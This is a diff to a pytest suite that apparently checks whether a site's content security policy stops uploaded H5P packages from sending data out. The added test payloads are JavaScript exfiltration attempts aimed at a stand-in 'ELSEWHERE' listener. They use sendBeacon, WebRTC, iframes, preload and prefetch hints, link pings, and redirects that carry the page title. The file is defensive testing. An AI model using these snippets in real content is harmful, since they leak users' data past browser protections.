@@ -218,12 +218,28 @@ ATTEMPTS = {
     "sending away by a beacon": "navigator.sendBeacon(ELSEWHERE + '/weg', 'x'); await new Promise((done) => setTimeout(done, 200)); return false;",
     "sending away by a call": "const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer()); return true;",
     "a call out of a frame of its own": "const f = document.createElement('iframe'); document.body.append(f); return Boolean(new f.contentWindow.RTCPeerConnection());",
+    "a call out of a frame with its own code": "const f = document.createElement('iframe'); f.srcdoc = '<script src=\"' + HERE + '\"></' + 'script>'; document.body.append(f); return await new Promise((yes) => { addEventListener('message', (said) => { if ('calls' in said.data) yes(said.data.calls); }); setTimeout(() => yes(true), 5000); });",
+    **{
+        f"a hint to the browser: {hint}": f"const l = document.createElement('link'); l.rel = {hint.partition(' ')[0]!r}; l.as = {hint.partition(' ')[2]!r}; l.href = ELSEWHERE + '/hint'; document.head.append(l); await new Promise((done) => setTimeout(done, 300)); return false;"
+        for hint in (
+            "preconnect",
+            "dns-prefetch",
+            "prefetch",
+            "modulepreload",
+            "preload script",
+            "preload image",
+            "preload fetch",
+            "icon",
+        )
+    },
+    "a ping of a link": "const a = document.createElement('a'); a.href = '#'; a.ping = ELSEWHERE + '/weg'; document.body.append(a); a.click(); await new Promise((done) => setTimeout(done, 200)); return false;",
     "a frame of the site": "return await new Promise((yes) => { const f = document.createElement('iframe'); f.src = SITE + '/'; f.onload = () => { try { yes(Boolean(f.contentDocument.body.innerText)); } catch { yes(false); } }; document.body.append(f); setTimeout(() => yes(false), 800); });",
 }
 
 
 HOSTILE = """
-var Test = {};
+if (!window.H5P) parent.postMessage({calls: typeof RTCPeerConnection !== "undefined"}, "*");
+var Test = {}, HERE = document.currentScript.src, H5P = window.H5P;
 Test.Story = function () { H5P.EventDispatcher.call(this); };
 Test.Story.prototype = Object.create(H5P.EventDispatcher.prototype);
 Test.Story.prototype.attach = async function ($place) {
@@ -259,6 +275,11 @@ class Listener(http.server.BaseHTTPRequestHandler):
     """Another site, which hears everything that reaches it."""
 
     heard: ClassVar[list[str]] = []
+
+    def setup(self) -> None:
+        """Note a connection, also when nothing is asked over it."""
+        self.heard.append("a connection")
+        super().setup()
 
     def do_GET(self) -> None:
         """Note it, and answer."""
@@ -333,16 +354,25 @@ Test.Away = function () { H5P.EventDispatcher.call(this); };
 Test.Away.prototype = Object.create(H5P.EventDispatcher.prototype);
 Test.Away.prototype.attach = function ($place) {
   $place.append("<p>Ik ga weg</p>");
-  setTimeout(function () { window.location = ELSEWHERE_HERE + "/weg?wie=" + document.title; }, 200);
+  setTimeout(function () { GOES_HERE }, 200);
 };
 """
+GOES = {
+    "by its own hand": "window.location = ELSEWHERE_HERE + '/weg?wie=' + document.title;",
+    "by a page that loads anew": "$place.append('<meta http-equiv=refresh content=\"0;url=' + ELSEWHERE_HERE + '/weg\">');",
+    "by a link": "var a = document.createElement('a'); a.href = ELSEWHERE_HERE + '/weg'; $place.append(a); a.click();",
+}
 
 
-def test_a_package_sends_nothing_away_by_going_elsewhere_itself(demo_site, elsewhere, contexts):
-    script = LEADS_AWAY.replace("ELSEWHERE_HERE", json.dumps(elsewhere))
-    load(demo_site, "I8", package(**{**as_type("Test.Away"), "Test.Away-1.0/story.js": script}).getvalue())
+@pytest.mark.parametrize("how", GOES)
+def test_a_package_sends_nothing_away_by_going_elsewhere_itself(demo_site, elsewhere, contexts, how):
+    number = list(GOES).index(how)
+    name, code = f"Test.Away{number}", f"I{86 + number}"
+    script = LEADS_AWAY.replace("Test.Away", name).replace("GOES_HERE", GOES[how])
+    script = script.replace("ELSEWHERE_HERE", json.dumps(elsewhere))
+    load(demo_site, code, package(**{**as_type(name), f"{name}-1.0/story.js": script}).getvalue())
     page = contexts("trainer").new_page()
-    page.goto("/oefening/i8/")
+    page.goto(f"/oefening/{code.lower()}/")
     page.click("main form button")
     with page.expect_console_message(lambda said: "frame-src" in said.text):
         page.wait_for_url("**/oefening-doen/**")
